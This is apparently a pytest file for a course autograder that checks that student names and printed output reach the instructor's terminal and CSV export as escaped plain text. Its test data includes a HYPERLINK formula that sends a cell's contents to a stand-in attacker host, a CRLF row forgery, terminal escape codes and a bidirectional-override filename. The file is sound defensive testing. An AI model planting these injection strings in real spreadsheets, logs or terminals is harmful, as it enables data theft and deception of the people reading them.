"""What a student names or prints reaches the instructor's terminal and spreadsheet as text, never as codes."""

import csv

import pytest
from nbgrader.api import Gradebook

from autograder.grading.untrusted_text import printable, printable_lines, spreadsheet_cell
from autograder.instructor.gradebook import gradebook_url
from tests.support.cli_workflow import ASSIGNMENT, gpt_course, new_course
from tools.nbgrader_course import nbgrader

HOSTILE_IDS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"18")',
    "forged_row": '"eve\r\n07_gpt,,,mallory,,,,18,0,18,18',
    "terminal": "dan\x1b[2J\x1b]0;pwned\x07",
    "bidi": "ann\u202egnp.exe",
}


@pytest.mark.parametrize(
    "text, shown",
    [
        ("\x1b[2J18 / 18", "\\x1b[2J18 / 18"),
        ("title\x1b]0;pwned\x07", "title\\x1b]0;pwned\\x07"),
        ("ann\u202egnp", "ann\\u202egnp"),
        ("two\nlines\r", "two\\nlines\\r"),
        ("汪星语 ✔", "汪星语 ✔"),
    ],
)
def test_control_characters_are_shown_as_escapes(text, shown):
    assert printable(text) == shown


def test_a_message_keeps_its_own_lines_and_loses_its_codes():
    assert printable_lines("expected 1\x1b[A\ngot 2") == "expected 1\\x1b[A\ngot 2"


def test_long_text_is_cut():
    assert printable("x" * 300, 200) == "x" * 199 + "…"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_field_that_would_start_a_formula_is_text(start):
    cell = spreadsheet_cell(start + "1+1")
    assert not cell.startswith(("=", "+", "-", "@")) and "\t" not in cell and "\r" not in cell and "1+1" in cell


@pytest.mark.nbgrader
def test_export_quotes_every_field_and_neutralizes_what_students_chose(tmp_path):
    """Real nbgrader export through the course's config: hostile ids stay in their own row, as plain text."""
    course = new_course(tmp_path / "course")
    assert nbgrader(course, "generate_assignment", ASSIGNMENT, "--force").returncode == 0
    with Gradebook(gradebook_url(course)) as gradebook:
        for student in ["honest", *HOSTILE_IDS.values()]:
            gradebook.add_student(student)
    gpt_course("export", "--course", course, "--to", tmp_path / "grades.csv")
    text = (tmp_path / "grades.csv").read_text()
    with open(tmp_path / "grades.csv", newline="") as file:
        rows = list(csv.reader(file))
    assert len(rows) == 1 + 1 + len(HOSTILE_IDS), rows  # the header, and one row per student: none forged
    assert all(len(row) == len(rows[0]) == 11 for row in rows), rows
    ids = [row[3] for row in rows[1:]]
    assert sorted(ids) == sorted(["honest", *(spreadsheet_cell(value) for value in HOSTILE_IDS.values())])
    assert not any(field.startswith(("=", "+", "-", "@")) for row in rows for field in row), rows
    assert "\r" not in text and "\x1b" not in text and "\u202e" not in text
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines()), "every field quoted"
